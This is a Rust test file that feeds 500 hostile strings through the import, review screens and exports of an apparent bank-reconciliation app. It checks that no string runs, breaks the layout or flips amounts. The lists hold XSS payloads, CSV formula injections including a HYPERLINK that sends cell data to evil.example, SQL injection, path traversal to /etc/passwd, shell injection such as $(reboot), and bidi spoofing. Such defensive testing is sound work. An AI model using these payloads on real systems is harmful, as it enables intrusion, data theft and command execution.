//! Five hundred texts that mean harm, taken in from real files and shown on every screen: none of them runs, none
//! breaks the page or turns figures round, and what is exported stays well-formed.

use std::{ffi::OsStr, fmt::Write as _, fs, path::Path};

use serde_json::{Value, json};
use tieout_tests::{PdfsigReport, pdf_text};

use crate::{books::Book, driver::Window, inspect::Findings};

const STRINGS: usize = 500;
/// What each script among them tries to set.
const SENTINEL: &str = "hostileRan";

/// One of each kind; `{0}` is what should run.
const SCRIPTS: [&str; 24] = [
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<ScRiPt >{0}//",
    "<img src=x onerror={0}>",
    "\"><img src=x onerror=\"{0}\">",
    "'><svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>",
    "<a href=\"javascript:{0}\">RE-1001</a>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "<body onload={0}>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<style>@import 'javascript:{0}';*{display:none}</style>",
    "expression({0}); background:url(javascript:{0})",
    "</title></textarea></style><base href=//evil.example><script>{0}</script>",
    "{{constructor.constructor('{0}')()}}",
    "${{0}} #{{0}} <%= {0} %> {% {0} %}",
    "__proto__[{0}] constructor.prototype",
    "<!--<img src=\"--><img src=x onerror={0}//\">",
    "]]><![CDATA[<script>{0}</script>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
];

/// Texts that mean something to a spreadsheet, a database, a shell, a file system, a formatter or the eye.
const OTHERS: [&str; 26] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"RE-1\")",
    "=cmd|'/C calc'!A0",
    "+1+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "'; DROP TABLE statement_line; --",
    "\" OR 1=1 --",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "$(reboot) `reboot` | reboot; reboot &",
    "%s%n%x%p {} {0} {count} {name}",
    "\u{202e}00.001 EUR",
    "\u{202e}\u{202d}\u{202e}evil\u{202c}",
    "\u{2067}GmbH 1.234,56\u{2066}",
    "شركة المثال 12.50",
    "דוגמה בע״מ 1,234.56",
    "A\u{200b}\u{200d}\u{feff}\u{2060}cme",
    "Z\u{0300}\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}\u{0308}\u{0309}\u{030a}\u{030b}\u{030c}algo",
    "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀🇩🇪🇬🇧",
    "\u{1}\u{7}\u{8}\u{b}\u{1b}[31mred\u{7f}\u{85}",
    "\u{fffe}\u{ffff}\u{e000}\u{10ffff}",
    "\u{2028}line\u{2029}paragraph",
    "\"\"\"'''``",
    "NULL undefined NaN Infinity true [object Object]",
    "﷽﷽﷽𒐫𒈙꧅",
];

/// The same every time: the kinds in turn, each wrapped, lengthened or broken in another way.
fn hostile(index: usize) -> String {
    let run = format!("window.{SENTINEL}={index}");
    let kinds = SCRIPTS.len() + OTHERS.len();
    let kind = index % kinds;
    let text =
        SCRIPTS.get(kind).map_or_else(|| OTHERS[kind - SCRIPTS.len()].to_owned(), |script| script.replace("{0}", &run));
    match index / kinds {
        0 => text,
        1 => format!("Müller & Söhne {text} {index}"),
        2 => format!("{text}{}", "W".repeat(300)),
        3 => format!("{} {text}", "lorem ipsum ".repeat(40)),
        4 => format!("\u{202e}{text}\u{2066}"),
        5 => format!("\u{5d0}\u{5d1} {text} {index}.00"),
        6 => text.chars().flat_map(|one| [one, '\u{0336}', '\u{20dd}']).collect(),
        7 => format!("={text}"),
        8 => format!("{text}{}", "漢字かな交じり".repeat(60)),
        _ if index.is_multiple_of(10) => format!("{text}{}", "0123456789".repeat(1_000)),
        _ => format!("{index}{text}{text}{text}"),
    }
}

/// A field as CSV has it; a row stays a row whatever is inside.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Statement and ledger of the same sums, so that each text is compared with another in a match.
fn files(folder: &Path) -> [std::path::PathBuf; 2] {
    let mut bank = String::from("date,description,counterparty,reference,amount,currency\n");
    let mut books = String::from("number,date,customer,text,amount,currency\n");
    for index in 0..STRINGS {
        let (day, month) = (index % 28 + 1, index % 12 + 1);
        let text = |shift: usize| quoted(&hostile((index + shift) % STRINGS));
        let amount = 10_000 + index * 37;
        let (whole, cents) = (amount / 100, amount % 100);
        let (description, counterparty, reference) = (text(0), text(1), text(2));
        writeln!(bank, "2025-{month:02}-{day:02},{description},{counterparty},{reference},{whole}.{cents:02},EUR")
            .expect("a text takes text");
        // Every third differs by a little, every fifth is missing.
        let cents = if index.is_multiple_of(3) { (cents + 1) % 100 } else { cents };
        if !index.is_multiple_of(5) {
            let (customer, note) = (text(1), text(7));
            writeln!(books, "\"RE-{index}\",2025-{month:02}-{day:02},{customer},{note},{whole}.{cents:02},EUR")
                .expect("a text takes text");
        }
    }
    let name = "<img src=x onerror=window.hostileRan=1>\u{202e}vsc.";
    [("bank", bank), ("books", books)].map(|(side, content)| {
        let file = folder.join(format!("{side}'\"{name}{side}.csv"));
        fs::write(&file, content).expect("a file");
        file
    })
}

/// A workbook in which whatever people and files name is hostile.
fn book(home: &Path) -> Book<'_> {
    let book = Book::new(home, &hostile(3), &hostile(5));
    let [bank, books] = files(home);
    let account = hostile(4);
    book.run(
        ["import"],
        [
            "--statement".as_ref(),
            bank.as_os_str(),
            "--ledger".as_ref(),
            books.as_os_str(),
            "--account".as_ref(),
            OsStr::new(&account),
        ],
    );
    for index in [0, 36, 37, 39, 44] {
        book.run(["customers", "new"], ["--name", &hostile(index)]);
    }
    for index in [1, 24, 40] {
        let pattern = format!("evil{index} {}", hostile(index));
        let category: String = hostile(index + 1).chars().filter(|one| !one.is_control()).take(60).collect();
        book.run(["categories", "add"], [category.trim()]);
        book.run(["categories", "add-pattern"], [pattern.as_str(), "--category", category.trim()]);
    }
    book.run(["categorise"], ["--json"]);
    book.run(["match"], ["--json"]);
    book
}

/// A cell that a spreadsheet would take for a formula. Numbers stay numbers.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

/// # Panics
/// When a table is not well-formed, or a cell of it would be run.
fn check_table(file: &Path) {
    let mut table = csv::ReaderBuilder::new().from_path(file).expect("a table");
    let mut rows = 0;
    for row in table.records() {
        let row = row.unwrap_or_else(|error| panic!("{}: {error}", file.display()));
        let formula = row.iter().find(|cell| is_formula(cell));
        assert!(formula.is_none(), "{}: {formula:?}", file.display());
        rows += 1;
    }
    assert!(rows > 50, "{}: {rows} rows", file.display());
}

fn check_exports(book: &Book, home: &Path) {
    let out = home.join("out");
    book.run(["export"], [OsStr::new("--out"), out.as_os_str()]);
    check_table(&out.join("matches.csv"));
    check_table(&out.join("exceptions.csv"));
    let list = home.join("categories.csv");
    book.run(["categorise"], [OsStr::new("--again"), OsStr::new("--out"), list.as_os_str()]);
    check_table(&list);
    let report: Value = serde_json::from_slice(&fs::read(out.join("report.json")).expect("a report")).expect("JSON");
    assert!(report["reconciliation_summary"].is_object(), "{report}");
    let pdf = out.join("report.pdf");
    assert!(PdfsigReport::of(&pdf).is_valid_and_whole());
    let words = pdf_text(&pdf);
    assert!(words.contains("<script>") && words.contains("DROP TABLE"), "the report leaves the texts out");
    assert!(!words.contains(['\u{202d}', '\u{202e}']), "the report turns texts round");
}

/// Nothing ran, nothing was loaded, nothing of the texts became part of the page, no screen gave up.
const HARM: &str = "
    const told = [];
    if (window.hostileRan !== undefined) told.push(`ran: ${window.hostileRan}`);
    told.push(...(window.refused ?? ['the page was loaded anew']));
    for (const one of document.querySelectorAll('img, iframe, object, embed, base, math, details[ontoggle], a[href^=\"javascript:\" i], body script, [onerror], [onload]')) {
        if (!one.src?.startsWith(location.origin)) told.push(`became part of the page: ${one.outerHTML.slice(0, 80)}`);
    }
    if (document.querySelector('[data-testid=\"crashed\"]')) told.push('the screen gave up');
    return told;";

const WATCH: &str = "
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => window.refused.push(`refused: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
    window.addEventListener('error', ({ message }) => message.startsWith('ResizeObserver loop') || window.refused.push(`error: ${message}`));";

async fn look_at(window: &Window, place: &str, findings: &mut Findings) {
    findings.add(place, &window.script(HARM, vec![]).await);
    findings.add(place, &window.page_check("layout").await);
    findings.add(place, &window.page_check("turnedAmounts").await);
}

/// Scrolls every list and region to its end.
const TO_THE_END: &str = "
    for (const one of document.querySelectorAll('main, main *')) {
        if (one.scrollHeight > one.clientHeight + 40 && getComputedStyle(one).overflowY !== 'visible') one.scrollTop = one.scrollHeight;
    }";

#[tokio::test]
async fn five_hundred_hostile_texts_run_nothing_and_break_nothing() {
    let home = tempfile::tempdir().unwrap();
    let book = book(home.path());
    check_exports(&book, home.path());
    fs::create_dir_all(tieout_tests::screenshot_folder().join("hostile")).unwrap();
    let window = Window::start(home.path()).await;
    window.find("start-create").await;
    window.script(WATCH, vec![]).await;
    let mut findings = Findings::default();
    book.open(&window).await;
    window.resize((1280, 800)).await;
    for screen in window.screens().await {
        window.go(&screen).await;
        look_at(&window, &screen, &mut findings).await;
        window.picture(&format!("hostile/{screen}")).await;
        window.script(TO_THE_END, vec![]).await;
        window.until_at_rest().await;
        look_at(&window, &format!("{screen}, its end"), &mut findings).await;
    }

    // On the bench each text is shown whole, next to what it is compared with.
    window.go("review").await;
    for part in ["toReview", "unmatchedLines", "unmatchedEntries", "approved"] {
        window.click(&format!("filter-{part}")).await;
        window.until_at_rest().await;
        for step in 0..8 {
            look_at(&window, &format!("bench, {part} {step}"), &mut findings).await;
            window.keys("j").await;
            window.until_at_rest().await;
        }
        window.picture(&format!("hostile/bench-{part}")).await;
    }

    // The files themselves, as the import shows them before anything is stored.
    window.go("import").await;
    let again = home.path().join("bank again.csv");
    fs::write(&again, fs::read_to_string(&files(home.path())[0]).unwrap().replace(",EUR", ",USD")).unwrap();
    window.give_file("file-input", &again).await;
    window.find("import-commit").await;
    window.until_at_rest().await;
    look_at(&window, "import preview", &mut findings).await;
    window.picture("hostile/import-preview").await;
    window.click("import-discard").await;
    findings.expect_none();
    assert_eq!(window.script("return window.hostileRan ?? null;", vec![]).await, json!(null));
    window.close().await;
}
